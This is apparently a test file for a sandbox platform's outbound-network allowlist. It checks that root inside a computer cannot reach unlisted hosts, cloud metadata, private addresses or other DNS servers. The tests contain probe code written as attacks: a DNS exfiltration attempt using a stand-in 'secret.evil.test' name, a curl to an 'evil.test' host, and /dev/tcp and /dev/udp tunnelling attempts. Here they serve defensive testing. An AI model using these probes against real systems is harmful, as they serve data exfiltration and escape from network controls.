/**
 * `[network] outbound`: what a computer with a list reaches, with a tenant inside who is root and wants more. The internet
 * is a namespace with public addresses, its names are on loopback.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { randomInt } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { swarmReport } from '../../src/api/cloud/schemas.ts'
import { Computer } from '../support/computer.ts'
import { Internet } from '../support/network.ts'
import { type Orb, startOrb, TEST_TIMEOUT_MS } from '../support/orb.ts'

setDefaultTimeout(TEST_TIMEOUT_MS)

/** What is forbidden must fail within this (Orb Cloud contract §4, network.outbound). */
const REFUSAL_S = 5
const HEADER_BYTES = 12
const TYPE_A = 1

let orb: Orb
let internet: Internet
let names: NameServer
let neighbour: Computer
const dir = mkdtempSync(join(tmpdir(), 'orb-egress-'))

/** A name server for every address of the zone, which notes what it is asked. */
class NameServer {
  readonly asked: string[] = []
  private constructor(
    readonly address: string,
    readonly zone: Record<string, string>,
    private readonly sockets: { close(): void }[] = [],
  ) {}

  static async start(zone: Record<string, string>): Promise<NameServer> {
    const server = new NameServer(`127.${randomInt(1, 250)}.${randomInt(256)}.${randomInt(2, 250)}`, zone)
    const udp = await Bun.udpSocket({
      hostname: server.address,
      port: 53,
      socket: { data: (socket, data, port, from) => void socket.send(server.answer(Buffer.from(data)), port, from) },
    })
    const tcp = Bun.listen({
      hostname: server.address,
      port: 53,
      socket: {
        data(socket, data) {
          const reply = server.answer(Buffer.from(data.subarray(2)))
          socket.write(Buffer.concat([Buffer.from([reply.length >> 8, reply.length & 0xff]), reply]))
        },
      },
    })
    server.sockets.push(udp, { close: () => tcp.stop(true) })
    return server
  }

  stop(): void {
    for (const socket of this.sockets) socket.close()
  }

  /** RFC 1035 §4.1: the header with the response bit, the question, an A record that points to the question's name. */
  private answer(query: Buffer): Buffer {
    const end = query.indexOf(0, HEADER_BYTES) + 5
    const labels: string[] = []
    for (let at = HEADER_BYTES; query[at]; at += (query[at] ?? 0) + 1)
      labels.push(query.toString('latin1', at + 1, at + 1 + (query[at] ?? 0)))
    const name = labels.join('.').toLowerCase()
    this.asked.push(name)
    const known = query.readUInt16BE(end - 4) === TYPE_A ? this.zone[name] : undefined
    const code = name in this.zone ? 0 : 3
    const header = Buffer.from([query[0] ?? 0, query[1] ?? 0, 0x81, 0x80 | code, 0, 1, 0, known ? 1 : 0, 0, 0, 0, 0])
    const record = [0xc0, HEADER_BYTES, 0, TYPE_A, 0, 1, 0, 0, 0, 5, 0, 4, ...(known ?? '').split('.').map(Number)]
    return Buffer.concat([header, query.subarray(HEADER_BYTES, end), Buffer.from(known ? record : [])])
  }
}

beforeAll(async () => {
  internet = await Internet.start()
  const [api = '', sub = '', other = '', git = ''] = internet.addresses
  names = await NameServer.start({
    'api.shop.test': api,
    'a.b.cdn.test': sub,
    'cdn.test': sub,
    'other.test': other,
    'git.test': git,
    'metadata.shop.test': '169.254.169.254',
    'inside.shop.test': '10.0.0.1',
  })
  const resolvConf = join(dir, 'resolv.conf')
  writeFileSync(resolvConf, `nameserver ${names.address}\n`)
  const preload = join(import.meta.dir, '../support/resolv.ts')
  orb = await startOrb({ preload, env: { TEST_RESOLV_CONF: resolvConf } })
  neighbour = await orb.computer()
  await neighbour.sh('(python3 -m http.server 8765 --bind 0.0.0.0 >/dev/null 2>&1 & disown)')
  names.zone['neighbour.shop.test'] = (await neighbour.sh('hostname -I')).trim().split(' ')[0] ?? ''
})
afterAll(async () => {
  await orb?.stop()
  names?.stop()
  await internet?.[Symbol.asyncDispose]()
  rmSync(dir, { recursive: true })
})

const AGENT = { name: 'script', lang: 'python', entry: 'main.py' }
/** Without an LLM of its own the providers' names would be on every list. */
const LLM = { base_url: 'https://llm.test/v1' }
const LIST = ['api.shop.test', '*.cdn.test', 'metadata.shop.test', 'inside.shop.test', 'neighbour.shop.test']

const config = (outbound?: string[], more: Record<string, unknown> = {}) => ({
  agent: AGENT,
  llm: LLM,
  ...(outbound ? { network: { outbound } } : {}),
  ...more,
})

async function computerWith(outbound?: string[]): Promise<Computer> {
  const computer = await orb.computer()
  expect((await computer.call('POST', '/config', config(outbound))).status).toBe(200)
  return computer
}

/** Tries connections from inside, all at once. Returns which came about; each that did not was over in time. */
async function reaches(computer: Computer, ...hosts: string[]): Promise<string[]> {
  const targets = hosts.map((host) => (host.startsWith('[') || !host.includes('@') ? `${host}@${internet.port}` : host))
  const program = `
import socket, sys, threading, time
def attempt(target):
    host, port = target.rsplit("@", 1)
    start = time.monotonic()
    try:
        socket.create_connection((host, int(port)), timeout=20).close()
        result = "open"
    except OSError as error:
        result = "closed"
    print(target, result, time.monotonic() - start, flush=True)
threads = [threading.Thread(target=attempt, args=[target]) for target in sys.argv[1:]]
for thread in threads: thread.start()
for thread in threads: thread.join()
`
  await computer.put('root/reach.py', program)
  const lines = (await computer.sh(`python3 /root/reach.py ${targets.join(' ')}`)).trim().split('\n')
  const results = lines.map((line) => line.split(' '))
  expect(results.filter(([, , seconds]) => Number(seconds) > REFUSAL_S)).toEqual([])
  const open = new Set(results.flatMap(([target, result]) => (result === 'open' ? [target] : [])))
  return hosts.filter((_, index) => open.has(targets[index]))
}

test('without a list a computer reaches the whole internet, and nothing else', async () => {
  const computer = await computerWith()
  const all = [
    'api.shop.test',
    'other.test',
    internet.addresses[5] ?? '',
    'metadata.shop.test@80',
    'neighbour.shop.test@8765',
  ]
  expect(await reaches(computer, ...all)).toEqual(all.slice(0, 3))
})

describe('root in a computer with a list', () => {
  let computer: Computer
  beforeAll(async () => {
    computer = await computerWith(LIST)
  })

  test('reaches its names and what its stars stand for, once they were looked up; nothing else by name', async () => {
    const [api = '', sub = ''] = internet.addresses
    expect(await reaches(computer, api, sub)).toEqual([])
    const hosts = ['api.shop.test', 'API.Shop.Test', 'a.b.cdn.test', 'cdn.test', 'other.test', 'nowhere.test']
    expect(await reaches(computer, ...hosts)).toEqual(hosts.slice(0, 3))
    expect(await reaches(computer, api, sub)).toEqual([api, sub])
    // What one computer learnt is no other's.
    expect(await reaches(await computerWith(['api.shop.test']), api)).toEqual([])
  })

  test('opens nothing private by a name that leads there', async () => {
    const hosts = ['metadata.shop.test@80', 'inside.shop.test@80', 'neighbour.shop.test@8765', `${orb.gateway}@22`]
    expect(await reaches(computer, ...hosts)).toEqual([])
    expect(await computer.sh('getent ahostsv4 metadata.shop.test | head -1')).toStartWith('169.254.169.254')
  })

  test('reaches the LLM proxy and the API', async () => {
    const hosts = [`${orb.gateway}@10000`, `${orb.gateway}@${new URL(orb.url).port}`]
    expect(await reaches(computer, ...hosts)).toEqual(hosts)
    expect(await computer.sh('curl -s -o /dev/null -w "%{http_code}" "$ORB_API_URL/health"')).toBe('200')
  })

  test('reaches no public port through the gateway but those of listed hosts; without a list any', async () => {
    const host = `${neighbour.shortId}.orb.localhost`
    const visit = async (from: Computer): Promise<[number, string]> => {
      const answer = await from.sh(`curl -s -w '\n%{http_code}' -H 'Host: ${host}' "$ORB_API_URL/"`)
      const [body = '', status] = answer.split('\n')
      return [Number(status), JSON.parse(body).error]
    }
    expect(await visit(computer)).toEqual([403, 'forbidden'])
    // The neighbour exposes none: that is as far as one gets.
    expect(await visit(await computerWith([host]))).toEqual([404, 'port_not_exposed'])
    expect(await visit(await computerWith(['*.orb.localhost']))).toEqual([404, 'port_not_exposed'])
    expect(await visit(await computerWith())).toEqual([404, 'port_not_exposed'])
  })

  test('gets to no other name server and to no address, by TCP, UDP, ICMP or IPv6', async () => {
    const [, , other = ''] = internet.addresses
    const hosts = [
      other,
      `${other}@53`,
      `${other}@853`,
      `${names.address}@53`,
      '8.8.8.8@53',
      `[2001:4860:4860::8888]@443`,
    ]
    expect(await reaches(computer, ...hosts)).toEqual([])
    await computer.sh(`echo -n tunnel > /dev/udp/${other}/${internet.port} || true`)
    expect((await computer.exec(`ping -c 1 -W 1 ${other}`)).exit_code).not.toBe(0)
    const free = await computerWith()
    await free.sh(`echo -n free > /dev/udp/${other}/${internet.port}`)
    await internet.listener.shows('datagram free\n')
    expect(internet.listener.output).not.toContain('datagram tunnel')
  })

  test('sends no word out as a name that is looked up, by UDP or TCP, whatever resolver it uses', async () => {
    const dns = (transport: string) => `
import socket, struct
name = b"".join(bytes([len(p)]) + p for p in b"secret.evil.test".split(b".")) + b"\\0"
query = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
if "${transport}" == "udp":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(query, ("${orb.gateway}", 53)); reply = s.recv(512)
else:
    s = socket.create_connection(("${orb.gateway}", 53), timeout=5); s.sendall(struct.pack(">H", len(query)) + query); reply = s.recv(512)[2:]
print(reply[3] & 15)
`
    for (const transport of ['udp', 'tcp']) {
      await computer.put('root/dns.py', dns(transport))
      expect(await computer.sh('python3 /root/dns.py')).toBe('3\n')
    }
    const { stderr } = await computer.exec('curl -sS --max-time 20 http://other-secret.evil.test/')
    expect(stderr).toContain('Could not resolve host')
    expect(names.asked.filter((name) => name.endsWith('evil.test'))).toEqual([])
  })
})

test('an empty list leaves the hosts of the source and of the LLM', async () => {
  const computer = await orb.computer()
  const source = { source: { git: `https://git.test:${internet.port}/a/b.git` } }
  names.zone['llm.test'] = internet.addresses[4] ?? ''
  await computer.call('POST', '/config', config([], source))
  const hosts = ['git.test', 'llm.test', 'api.shop.test', 'other.test']
  expect(await reaches(computer, ...hosts)).toEqual(hosts.slice(0, 2))
})

test('addresses and networks of the list are open without a name', async () => {
  const [one = '', two = '', three = ''] = internet.addresses
  const computer = await computerWith([one, `${two}/32`, '0.0.0.0/32'])
  expect(await reaches(computer, one, two, three)).toEqual([one, two])
  await computer.call('POST', '/config', config(['0.0.0.0/0']))
  expect(await reaches(computer, one, two, three, '169.254.169.254@80', '10.0.0.1@80')).toEqual([one, two, three])
})

describe('a build', () => {
  const step = (host: string) => `exec 3<>/dev/tcp/${host}/${internet.port}`
  const built = (steps: string[]) => ({ build: { steps } })

  test('is kept to the list', async () => {
    const computer = await orb.computer()
    await computer.call('POST', '/config', config(['api.shop.test'], built([step('api.shop.test')])))
    expect((await computer.call('POST', '/build')).json).toMatchObject({ success: true })
    await computer.call('POST', '/config', config(['api.shop.test'], built([step('other.test')])))
    expect((await computer.call('POST', '/build')).json).toMatchObject({ success: false, error: 'step_failed' })
  })

  test('of a deploy that brings another list has that one, and afterwards only that one holds', async () => {
    const computer = await orb.computer()
    await computer.put('agent/code/main.py', 'import time\nprint("up", flush=True)\ntime.sleep(1e6)\n')
    expect((await computer.deploy(config(['other.test']))).status).toBe(201)
    expect(await reaches(computer, 'other.test', 'api.shop.test')).toEqual(['other.test'])
    const next = config(['api.shop.test'], built([step('api.shop.test'), step('other.test')]))
    expect((await computer.deploy(next)).status).toBe(201)
    expect(await reaches(computer, 'other.test', 'api.shop.test')).toEqual(['api.shop.test'])
    // Nor is its address open still.
    expect(await reaches(computer, internet.addresses[2] ?? '')).toEqual([])
  })

  test('of a swarm is kept to the list, and so is each replica from its first moment on', async () => {
    const attempt = (host: string) => `(${step(host)}) 2>/dev/null && echo ${host} open || echo ${host} closed`
    const hosts = ['api.shop.test', 'other.test']
    const agent = `${hosts.map(attempt).join('; ')}; echo tried; sleep 1000000`
    const steps = [step('api.shop.test'), `! (${step('other.test')})`, `printf '#!/bin/bash\n%s\n' '${agent}' > main`]
    const orb_config = { ...config(['api.shop.test']), ...built([...steps, 'chmod +x main']) }
    const sizes = { runtime_mb: 128, disk_mb: 128 }
    const order = {
      name: 'listed',
      replicas: 2,
      ...sizes,
      orb_config: { ...orb_config, agent: { ...AGENT, lang: 'binary', entry: 'main' } },
    }
    const made = await orb.call('POST', '/v1/swarms', order)
    expect([made.status, made.text]).toEqual([201, made.text])
    for (const { id } of swarmReport.parse(made.json).computers) {
      const replica = new Computer(orb, id)
      await replica.waitForLine((line) => line === 'tried')
      expect(await replica.lines('stdout')).toEqual(['api.shop.test open', 'other.test closed', 'tried'])
    }
    expect((await orb.call('DELETE', '/v1/swarms/listed')).status).toBe(200)
  })
})

test('a list counts from the deploy on, for an agent that runs and for one that sleeps', async () => {
  const computer = await orb.computer()
  await computer.deployAgent()
  const hosts = ['api.shop.test', 'other.test']
  await computer.call('POST', '/config', {
    ...config(['api.shop.test']),
    agent: { ...AGENT, lang: 'node', entry: 'agent.mjs' },
  })
  expect(await reaches(computer, ...hosts)).toEqual(hosts)
  expect((await computer.call('POST', '/agents')).status).toBe(201)
  expect(await reaches(computer, ...hosts)).toEqual(['api.shop.test'])

  expect((await computer.call('POST', '/agents/demote')).json).toMatchObject({ state: 'checkpointed' })
  expect(await reaches(computer, ...hosts)).toEqual(['api.shop.test'])
  await computer.call('POST', '/config', {
    ...config(['other.test']),
    agent: { ...AGENT, lang: 'node', entry: 'agent.mjs' },
  })
  expect((await computer.call('POST', '/agents')).status).toBe(201)
  expect(await reaches(computer, ...hosts)).toEqual(['other.test'])
})

test('the rules stand after orb was killed, with what was learnt; an open connection goes on, also over sleep', async () => {
  const computer = await orb.computer()
  const [api = '', , other = ''] = internet.addresses
  const source = `
import socket, time
talk = socket.create_connection(("api.shop.test", ${internet.port}))
print("connected", flush=True)
while True:
    time.sleep(0.2)
    try:
        word = open("/agent/data/say").read()
        import os; os.remove("/agent/data/say")
    except OSError:
        continue
    talk.sendall(word.encode())
    print("heard", talk.recv(100).decode(), flush=True)
`
  const limits = { llm: LLM, network: { outbound: ['api.shop.test'] } }
  expect((await computer.deployScript('python', source, limits)).status).toBe(201)
  await computer.waitForLine((line) => line === 'connected')
  const talk = async (word: string) => {
    await computer.put('agent/data/say', word)
    await computer.waitForLine((line) => line === `heard ${word}`)
  }
  await talk('one')
  await orb.kill9()
  await orb.restart()
  expect(await reaches(computer, api, other, 'other.test')).toEqual([api])
  await talk('two')
  await computer.call('POST', '/agents/demote')
  await orb.kill9()
  await orb.restart()
  expect((await computer.agent())?.state).toBe('checkpointed')
  expect(await reaches(computer, api, other, 'other.test')).toEqual([api])
  await computer.call('POST', '/agents/promote')
  await talk('three')
})

test('a computer that is deleted leaves nothing of its list', async () => {
  const computer = await computerWith(['api.shop.test', '1.2.3.0/24'])
  const address = (await computer.sh('hostname -I')).trim().split(' ')[0] ?? ''
  await reaches(computer, 'api.shop.test')
  const table = `orb_${Buffer.from(orb.gateway.split('.').map(Number)).toString('hex')}`
  expect(await Bun.$`nft list table inet ${table}`.text()).toContain(address)
  await computer.call('DELETE', '')
  expect(await Bun.$`nft list table inet ${table}`.text()).not.toContain(`${address} `)
})
